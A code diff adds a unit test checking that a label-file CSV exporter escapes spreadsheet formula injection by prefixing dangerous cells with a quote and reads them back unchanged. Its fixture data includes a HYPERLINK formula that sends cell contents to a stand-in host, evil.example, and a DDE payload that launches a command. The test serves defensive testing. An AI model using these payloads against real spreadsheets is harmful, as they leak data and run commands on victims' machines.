@@ -151,6 +151,31 @@ describe('label files', () => {
     expect(back).toEqual([{ line: 2, ...labels[0] }]);
   });
 
+  it('writes formula-like labels, notes and raw -1: addresses as text, and reads them back exactly', () => {
+    const master = `-1:${'3'.repeat(64)}`;
+    const labels = [
+      {
+        address: RAW,
+        label: '=HYPERLINK("http://evil.example/?l="&A1,"alice")',
+        category: "+cmd|' /C calc'!A0",
+        note: '@SUM(A1:A9)',
+        color: null,
+      },
+      { address: master, label: '-elector', category: 'exchange', note: "'quoted", color: null },
+    ];
+    const csv = labelsToCsv(labels);
+    const cells = parseCsvRecords(csv)
+      .slice(1)
+      .flatMap((r) => r.fields);
+    // No cell a spreadsheet would evaluate: every one that starts like a formula starts with '.
+    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    expect(cells).toContain('\'=HYPERLINK("http://evil.example/?l="&A1,"alice")');
+    expect(cells).toContain(`'${master}`);
+    expect(parseLabelsCsv(csv)).toEqual(
+      labels.map((l, i) => ({ line: i + 2, ...l, address: l.address })),
+    );
+  });
+
   it('names the wrong line of a CSV', () => {
     const csv = `address,label\n${RAW},Fine\nnot-an-address,Bad\n${OTHER},Fine too\n`;
     expect(() => parseLabelsCsv(csv)).toThrow(LabelFileError);
